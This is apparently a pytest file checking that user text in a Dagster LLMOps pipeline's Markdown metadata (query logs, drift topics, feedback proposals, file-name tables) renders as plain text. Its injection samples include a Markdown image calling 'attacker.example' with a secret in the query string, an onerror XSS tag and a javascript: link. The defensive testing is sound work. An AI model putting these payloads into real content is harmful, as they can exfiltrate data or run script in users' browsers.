"""User text in the Markdown metadata of the Dagster UI renders as that text.

Rendered with markdown-it in CommonMark mode plus GFM tables (the UI renders GitHub-flavoured
Markdown): a question, a drift example, a feedback comment or a file name never becomes an
image, a link, HTML or emphasis, and a `|` or a line break never moves text into another cell.
"""

from datetime import UTC, date, datetime, time

import dagster as dg
import pytest
from markdown_it import MarkdownIt

from assets.corpus import _skipped_table
from assets.drift import _metadata, query_log, topics_table
from assets.feedback import proposals_table
from assets.index import quarantine_table
from llmops.evaluation.feedback import CandidateCase
from llmops.knowledge.documents import DocumentScan, SkippedFile
from llmops.markdown import md_text
from llmops.monitoring.check import DriftCheck
from llmops.monitoring.drift import EmergingTopic
from llmops.monitoring.windows import DriftSettings
from resources.metadata_store import MetadataStore
from tests.support.records import query_record

GFM = MarkdownIt("commonmark").enable(["table", "strikethrough"])
DAY = date(2026, 11, 20)

INJECTIONS = [
    "Show me ![logo](https://attacker.example/pixel.png?d=secret) please",
    "Is it 27 | 30 days of leave?",
    "<img src=x onerror=alert(1)> [click](javascript:alert(1)) **bold** `code` &amp; _x_ \\|",
    "first line\n| forged | row |\n|---|---|\n# heading <https://attacker.example>",
]


def _plain(text: str) -> str:
    return " ".join(text.split())


def cells(markdown: str) -> list[str]:
    """The plain text of every inline run (table cells, list items, paragraphs); fails on any
    markup other than text: an image, a link, HTML, code or emphasis."""
    texts = []
    for token in GFM.parse(markdown):
        if token.type != "inline":
            continue
        kinds = {child.type for child in token.children or []}
        assert kinds <= {"text", "softbreak"}, (kinds, token.content)
        texts.append("".join(child.content for child in token.children or []))
    return texts


def assert_renders_as_text(markdown: str, texts: list[str]) -> None:
    html = GFM.render(markdown)
    for tag in ("<img", "<a ", "<h1", "<code"):
        assert tag not in html, html
    found = cells(markdown)
    for text in texts:
        assert any(_plain(text) in cell for cell in found), (text, found)


def test_markdown_injection_in_a_question_renders_as_text_in_the_query_log(metadata):
    for minute, question in enumerate(INJECTIONS):
        metadata.queries.log(
            query_record(question, created_at=datetime.combine(DAY, time(9, minute), UTC))
        )

    result = dg.materialize(
        [query_log],
        partition_key=DAY.isoformat(),
        resources={"metadata_store": MetadataStore(url=metadata.url)},
    )

    summary = result.asset_materializations_for_node("query_log")[0].metadata["summary"].value
    assert_renders_as_text(summary, INJECTIONS)
    rows = [cell for cell in cells(summary) if cell.startswith("09:0")]
    assert rows == [f"09:0{minute}:00" for minute in range(len(INJECTIONS))]


def test_drift_examples_render_as_text_in_the_topics_and_the_explanation():
    topic = EmergingTopic(
        share=0.3,
        count=42,
        examples=INJECTIONS[:3],
        novelty=0.5,
        nearest_reference_similarity=0.2,
        reference_similarity=0.6,
    )
    assert_renders_as_text(topics_table([topic]), INJECTIONS[:3])
    windows = DriftSettings(window_days=7).windows(DAY)
    reason = f"about 42 queries (30%) like {INJECTIONS[0]!r} appeared"
    check = DriftCheck(windows, 200, 200, None, reason, None, None, 0.1)
    assert_renders_as_text(_metadata(check)["explanation"].value, [INJECTIONS[0]])


def test_feedback_comments_and_questions_render_as_text_in_the_proposals():
    proposal = CandidateCase(
        id="fb-1234abcd",
        question=INJECTIONS[1],
        answer_given="30 days.",
        comment=INJECTIONS[0] + "\n" + INJECTIONS[3],
        query_id="1234abcd-0000",
        prompt="answer@v1",
        feedback_at=datetime(2026, 11, 20, tzinfo=UTC),
    )
    table = proposals_table([proposal], {"fb-1234abcd"})
    assert_renders_as_text(table, [INJECTIONS[1], INJECTIONS[0] + " " + INJECTIONS[3]])
    assert proposals_table([proposal], set()) == "no new proposal"


def test_file_names_render_as_text_in_the_skipped_and_quarantine_tables():
    name = "notes | ![x](https://attacker.example/p.png).md"
    scan = DocumentScan("/docs", skipped=[SkippedFile(name, "outside docs folder")])
    assert_renders_as_text(_skipped_table(scan).value, [name, "outside docs folder"])
    chunk = {"document": name, "chunk_id": "abc123", "quarantine_reason": INJECTIONS[2]}
    assert_renders_as_text(quarantine_table([chunk]), [name, INJECTIONS[2]])


@pytest.mark.parametrize("text", INJECTIONS)
def test_md_text_keeps_the_text_and_one_line(text):
    escaped = md_text(text)
    assert "\n" not in escaped
    assert cells(escaped) == [_plain(text)]


def test_md_text_cuts_long_text():
    escaped = md_text("word " * 200, max_chars=50)
    [text] = cells(escaped)
    assert len(text) == 50
    assert text.endswith("…")
